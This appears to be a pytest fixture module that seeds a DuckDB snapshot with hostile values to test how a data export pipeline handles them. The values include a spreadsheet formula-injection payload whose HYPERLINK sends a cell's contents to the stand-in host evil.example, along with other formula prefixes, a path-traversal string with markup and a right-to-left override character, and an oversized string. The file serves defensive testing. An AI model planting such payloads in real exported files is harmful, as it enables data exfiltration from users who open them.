"""A snapshot in which documents are hostile: names that act as formulas, markup and paths."""

import shutil

import duckdb
import pytest

from flows.exports.source import Source, opened

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
PATH = "../../<b>&区\u202e"
LONG = "长" * 100_000


@pytest.fixture
def hostile(published, tmp_path):
    """The published snapshot, with what nobody should write into it."""
    path = tmp_path / "snapshot" / "zhanbi.duckdb"
    path.parent.mkdir()
    shutil.copyfile(published, path)
    with duckdb.connect(str(path)) as connection:
        connection.execute("update dim_document set title = ?, file_name = '@SUM(1+1)'", [FORMULA])
        connection.execute("update dim_area set area = ? where area_code = '149900'", [PATH])
        connection.execute("update provincial_shares set area = ?, quote = ?", [PATH, LONG])
        connection.execute("update dim_entity set name = ?", [FORMULA])
        connection.execute("update observations set document_title = ?, breakdown = '-2+3'", [FORMULA])
    return path


@pytest.fixture
def source(hostile) -> Source:
    with opened(hostile) as source:
        yield source
